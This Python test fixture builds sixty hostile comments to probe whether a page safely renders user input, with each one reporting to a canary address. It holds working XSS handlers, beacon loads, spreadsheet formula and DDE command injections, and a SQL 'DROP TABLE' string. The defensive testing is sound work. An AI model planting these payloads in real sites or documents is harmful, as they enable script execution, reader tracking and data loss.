"""Sixty comments written to break a page; each would tell a canary if it could."""

from __future__ import annotations


def hostile_comments(canary: str) -> list[str]:
    """Sixty different comments.

    Parameters
    ----------
    canary
        Address that a comment asks for, its own number behind it, when it runs or
        loads anything.
    """
    return [
        comment.replace("URL", f"{canary}/{n}").replace("RUN", f"fired({n})")
        for n, comment in enumerate(_scripts() + _loads() + _texts())
    ]


def _scripts() -> list[str]:
    """Run something, in one way or another."""
    return [
        "<script>RUN</script> never arrived",
        "<SCRIPT SRC='URL'></SCRIPT>",
        "<img src=x onerror=RUN>",
        '<img src="x" onerror="RUN"/> broken',
        "<IMG SRC=x OnErRoR='RUN'>",
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s></svg>",
        "<svg><image href=x onerror=RUN></image></svg>",
        "<body onload=RUN>late</body>",
        "<input autofocus onfocus=RUN>",
        "<details open ontoggle=RUN><summary>late</summary></details>",
        "<video><source src=x onerror=RUN></video>",
        "<audio src=x onerror=RUN></audio>",
        "<object data='javascript:RUN'></object>",
        "<iframe src='javascript:parent.RUN'></iframe>",
        '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
        "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph>"
        "</table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>",
        "</textarea><img src=x onerror=RUN>",
        "</td></tr></table><img src=x onerror=RUN>",
        "</script><script>RUN</script>",
        "--><img src=x onerror=RUN><!--",
        "]]><img src=x onerror=RUN>",
        "\"><img src=x onerror='RUN'>",
        "' onmouseover='RUN' x='",
        "` onerror=RUN `",
        "${RUN} #{RUN} {{RUN}} <%= RUN %>",
        "{{constructor.constructor('RUN')()}}",
        "<div style='animation:x 1s' onanimationstart=RUN>slow</div>",
    ]


def _loads() -> list[str]:
    """Ask a server for something, so that it learns who reads this."""
    return [
        "<img src='URL'>",
        "<img srcset='URL 1x'> cracked",
        "<link rel=stylesheet href='URL'>",
        "<link rel=preload as=image href='URL'>",
        "<style>@import 'URL';</style>",
        "<style>* { background: url(URL) !important }</style>",
        "<p style='background-image:url(URL)'>late</p>",
        "<p style=\"list-style: url('URL')\">late</p>",
        "<iframe src='URL'></iframe>",
        "<embed src='URL'>",
        "<object data='URL'></object>",
        "<video poster='URL' src='URL' autoplay></video>",
        "<svg><image href='URL'/></svg>",
        "<svg><use href='URL#x'/></svg>",
        "<meta http-equiv=refresh content='0;url=URL'>",
        "<base href='URL/'><img src='beacon'>",
        "![late](URL) and [here](URL) and <URL>",
    ]


def _texts() -> list[str]:
    """Be taken for a formula, markup or another direction of writing."""
    return [
        '=HYPERLINK("URL","refund")',
        '=WEBSERVICE("URL")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1-800 refund =1+1",
        "# late\n\n**very** `late`\n\n---\n> $$\\href{javascript:RUN}{x}$$",
        "&lt;img src=x onerror=RUN&gt; &amp;amp; &#60;b&#62; &nbsp;",
        "\u202ekcab tnes\u202c \u2067right\u2069 \u200bhidden\u200b",
        "وصل متأخرا <b>جدا</b> \u202b<img src=x onerror=RUN>\u202c",
        "zalgo t\u0300\u0301\u0302\u0303h\u0304\u0305 😀👩\u200d👩\u200d👧 𝒻ine",
        "<b>bold</b> <a href='javascript:RUN'>click</a> <br> <sub>low</sub>",
        "C:\\late\\n\\t %s %n {0} \\u003cimg src=x onerror=RUN\\u003e",
        "long <img src=x onerror=RUN> " * 3_500 + "end",  # 100 kB
        "'; DROP TABLE entries; -- <script>RUN</script>",
    ]
